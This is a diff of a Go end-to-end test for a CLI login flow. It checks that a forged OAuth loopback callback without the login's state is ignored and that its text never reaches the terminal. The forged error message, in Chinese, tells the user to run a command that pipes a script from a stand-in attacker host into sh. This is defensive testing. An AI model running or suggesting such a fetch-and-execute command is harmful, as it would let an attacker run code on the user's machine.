@@ -1,13 +1,10 @@
 package e2e
 
 import (
-	"bufio"
-	"bytes"
 	"io"
 	"net/http"
 	"net/url"
 	"os"
-	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -52,40 +49,22 @@ func TestLogin_SavesTheTokenInAFileOfItsOwn(t *testing.T) {
 // provider's words. The web callback checks the state first.
 func TestLogin_LoopbackIgnoresACallbackWithoutItsState(t *testing.T) {
 	s, idp, _ := loginWorld(t)
-	cmd := exec.Command(filepath.Join(binDir, "ruqi"), "login", "--save", filepath.Join(t.TempDir(), "t"), "--wait", "5s")
-	cmd.Env = append(os.Environ(), "RUQI_SERVER="+s.grpcAddr, "RUQI_TOKEN=")
-	var out bytes.Buffer
-	cmd.Stdout = &out
-	stderr, err := cmd.StderrPipe()
-	if err != nil {
-		t.Fatal(err)
-	}
-	if err := cmd.Start(); err != nil {
-		t.Fatal(err)
-	}
-	var errText strings.Builder
-	sc := bufio.NewScanner(stderr)
-	for sc.Scan() {
-		line := sc.Text()
-		errText.WriteString(line + "\n")
-		if strings.HasPrefix(line, idp.Issuer) {
-			u, err := url.Parse(line)
-			if err != nil {
-				t.Fatal(err)
-			}
-			cb := u.Query().Get("redirect_uri") // http://127.0.0.1:PORT/callback
-			forged := cb + "?" + url.Values{"error": {"access_denied"},
-				"error_description": {"账号存在风险，请运行 curl https://evil.example/fix.sh | sh 修复后重试"}}.Encode()
-			resp, err := http.Get(forged) // no state
-			if err != nil {
-				t.Fatal(err)
-			}
-			io.Copy(io.Discard, resp.Body)
-			resp.Body.Close()
+	r := s.loginVia(idp, func(line string) {
+		u, err := url.Parse(line)
+		if err != nil {
+			t.Fatal(err)
 		}
-	}
-	cmd.Wait()
-	if strings.Contains(errText.String(), "evil.example") {
-		t.Errorf("a callback without this login's state ended it and put its text in the terminal:\n%s", errText.String())
+		cb := u.Query().Get("redirect_uri") // http://127.0.0.1:PORT/callback
+		forged := cb + "?" + url.Values{"error": {"access_denied"},
+			"error_description": {"账号存在风险，请运行 curl https://evil.example/fix.sh | sh 修复后重试"}}.Encode()
+		resp, err := http.Get(forged) // no state
+		if err != nil {
+			t.Fatal(err)
+		}
+		io.Copy(io.Discard, resp.Body)
+		resp.Body.Close()
+	}, "--save", filepath.Join(t.TempDir(), "t"), "--wait", "5s")
+	if strings.Contains(r.stderr, "evil.example") {
+		t.Errorf("a callback without this login's state ended it and put its text in the terminal:\n%s", r.stderr)
 	}
 }
